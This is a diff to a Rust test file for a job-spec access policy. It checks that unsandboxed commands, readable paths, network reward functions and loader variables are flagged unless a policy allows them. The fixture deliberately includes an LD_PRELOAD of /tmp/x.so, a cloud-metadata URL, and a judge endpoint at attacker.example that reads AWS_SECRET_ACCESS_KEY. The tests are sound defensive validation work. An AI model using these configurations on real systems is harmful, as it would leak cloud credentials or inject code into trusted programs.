@@ -21,7 +21,7 @@ fn spec(toml: &str) -> JobSpec {
 const EXTERNAL: &str = r#"
 [[tasks]]
 domain = "ext"
-env = { kind = "external", command = ["python3", "env.py"], sandbox = "none" }
+env = { kind = "external", command = ["python3", "env.py"], sandbox = "none", readable_paths = ["/tmp"] }
 [[pools]]
 name = "p"
 device = "H800"
@@ -30,6 +30,14 @@ backend = { kind = "sim", model = "qwen3-8b" }
 [reward.functions.c]
 kind = "command"
 command = "/bin/true"
+env = { LD_PRELOAD = "/tmp/x.so", MODE = "fast" }
+[reward.functions.h]
+kind = "http"
+url = "http://169.254.169.254/latest"
+[reward.functions.j]
+kind = "builtin"
+function = "judge"
+config = { endpoint = "http://attacker.example", model = "m", rubric = "r", api_key_env = "AWS_SECRET_ACCESS_KEY" }
 [reward.functions.k]
 kind = "builtin"
 function = "code"
@@ -142,9 +150,15 @@ fn programs_need_the_policy_when_tokens_are_configured() {
     assert_eq!(
         fields,
         [
+            "tasks[0].env.readable_paths[0]",
             "tasks[0].env.command",
             "tasks[0].env.sandbox",
             "reward.functions.c.command",
+            "reward.functions.c.kind",
+            "reward.functions.c.env.LD_PRELOAD",
+            "reward.functions.h.url",
+            "reward.functions.j.config.endpoint",
+            "reward.functions.j.config.api_key_env",
             "reward.functions.k.config.python",
             "reward.functions.k.config.sandbox",
         ]
@@ -153,13 +167,23 @@ fn programs_need_the_policy_when_tokens_are_configured() {
     let policy = ProgramPolicy {
         executables: Some(vec!["python3".into(), "true".into()]),
         allow_unsandboxed: Some(true),
+        readable_paths: Some(vec!["/tmp".into()]),
+        allow_network_functions: Some(true),
     };
     let allowed = Access::new(&cfg(&[("a", Role::Submit, "t")]), policy).unwrap();
-    assert_eq!(allowed.check_programs(&s), Vec::new());
+    // Only the loader variable stays refused: it would change what a listed program runs.
+    let fields: Vec<_> = allowed
+        .check_programs(&s)
+        .into_iter()
+        .map(|f| f.field)
+        .collect();
+    assert_eq!(fields, ["reward.functions.c.env.LD_PRELOAD"]);
     // Sandbox opt-outs stay denied when only executables are listed.
     let policy = ProgramPolicy {
         executables: Some(vec!["python3".into(), "/bin/true".into()]),
         allow_unsandboxed: None,
+        readable_paths: Some(vec!["/usr".into()]),
+        allow_network_functions: None,
     };
     let partial = Access::new(&cfg(&[("a", Role::Submit, "t")]), policy).unwrap();
     let fields: Vec<_> = partial
@@ -169,6 +193,15 @@ fn programs_need_the_policy_when_tokens_are_configured() {
         .collect();
     assert_eq!(
         fields,
-        ["tasks[0].env.sandbox", "reward.functions.k.config.sandbox"]
+        [
+            "tasks[0].env.readable_paths[0]",
+            "tasks[0].env.sandbox",
+            "reward.functions.c.kind",
+            "reward.functions.c.env.LD_PRELOAD",
+            "reward.functions.h.url",
+            "reward.functions.j.config.endpoint",
+            "reward.functions.j.config.api_key_env",
+            "reward.functions.k.config.sandbox",
+        ]
     );
 }
